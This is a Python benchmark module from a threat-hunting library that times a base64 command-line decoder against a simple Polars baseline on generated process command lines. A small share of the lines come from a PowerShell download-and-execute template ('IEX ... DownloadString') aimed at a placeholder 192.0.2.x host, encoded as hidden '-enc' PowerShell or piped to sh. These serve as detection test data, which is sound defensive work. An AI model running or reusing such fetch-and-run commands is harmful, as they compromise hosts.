"""Decoding command lines, against the least that finds base64 in them: a Polars prefilter and `base64` over the rest.

The alternative knows base64 of 30 letters and more and guesses between UTF-8 and UTF-16; it looks for nothing nested,
packed, broken, hexadecimal or in character codes, and takes a path for text if it decodes to any.
"""

from __future__ import annotations

import base64
import random
import re
import string
from typing import TYPE_CHECKING
from uuid import UUID

import polars as pl

import huntbook.analytics.decode as ours
from benchmarks._measure import Figure, measure

if TYPE_CHECKING:
    from collections.abc import Iterator

_RUN = re.compile(r"[A-Za-z0-9+/]{30,}={0,2}")
_SIZES = {"1k rows": 1_000, "10k rows": 10_000, "100k rows": 100_000, "1M rows": 1_000_000}
_LIMIT = 2.0
_ENCODED = 0.01  # of the rows; in recordings of attack campaigns it is 0.7 %, on a quiet host 0.02 %
_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://{host}/{name}.ps1'); Start-Sleep {seconds}"


def figures() -> Iterator[Figure]:
    for name, rows in _SIZES.items():
        prepare = _Lines(rows)
        yield Figure(
            what="decode",
            size=name,
            ours=measure(_decode, prepare),
            alternative="Polars prefilter and base64",
            theirs=measure(_floor, prepare),
            limit=_LIMIT,
        )


class _Lines:
    """Command lines of about a hundred letters, the same every time."""

    def __init__(self, rows: int) -> None:
        self.rows = rows

    def __call__(self) -> pl.DataFrame:
        chance = random.Random(7)
        return pl.DataFrame({"CommandLine": [_line(chance) for _ in range(self.rows)]})


def _line(chance: random.Random) -> str:
    if chance.random() < _ENCODED:
        return _encoded(chance)
    number, name = chance.getrandbits(128), "".join(chance.choices(string.ascii_letters, k=9))
    return chance.choice(
        (
            rf"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s {name} -id {number % 9999}",
            rf'"C:\Program Files (x86)\Google\Chrome\chrome.exe" --type=renderer --field-trial-handle={number % 10**15},i',
            rf"C:\WINDOWS\system32\DllHost.exe /Processid:{{{UUID(int=number)}}} /name {name} -Embedding",
            rf"taskhostw.exe Install $(Arg0) C:\Users\{name}\AppData\Local\Microsoft\OneDrive\{number % 10**8}",
            rf"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding {name} {number % 10**9} -Namespace root\cimv2",
            rf'reg.exe query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\{name}" /v Version{number % 99} /reg:64',
            f"/usr/bin/python3 -m {name}.service --config /etc/{name}/production.yaml --listen 127.0.0.1:{number % 9999}",
            rf"certutil.exe -hashfile D:\{name}\setup.msi SHA256 -expect {number:032x}{number:032x}",
            rf"MsMpEng.exe -Scan -ScanType 2 -SignatureUpdateAvailabilityCheck {number % 10**6} -Path D:\{name}",
        )
    )


def _encoded(chance: random.Random) -> str:
    script = _SCRIPT.format(
        host=f"192.0.2.{chance.randrange(255)}", name=f"update{chance.getrandbits(32)}", seconds=chance.randrange(99)
    )
    if chance.random() < 0.5:
        return f"powershell.exe -nop -w hidden -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"
    return f"/bin/sh -c echo {base64.b64encode(script.encode()).decode()} | base64 -d | sh"


def _decode(table: pl.DataFrame) -> object:
    return ours.decode(table, "CommandLine")


def _floor(table: pl.DataFrame) -> object:
    lines = table.with_row_index("row").filter(pl.col("CommandLine").str.contains(_RUN.pattern))
    found = [
        (row, run, text)
        for row, line in lines.iter_rows()
        for run in _RUN.findall(line)
        if (text := _text(run)) is not None
    ]
    return pl.DataFrame(found, schema=["row", "encoded", "decoded"], orient="row")


def _text(run: str) -> str | None:
    try:
        data = base64.b64decode(run)
        return data.decode("utf-16-le" if data[1:2] == b"\0" else "utf-8")
    except ValueError:
        return None
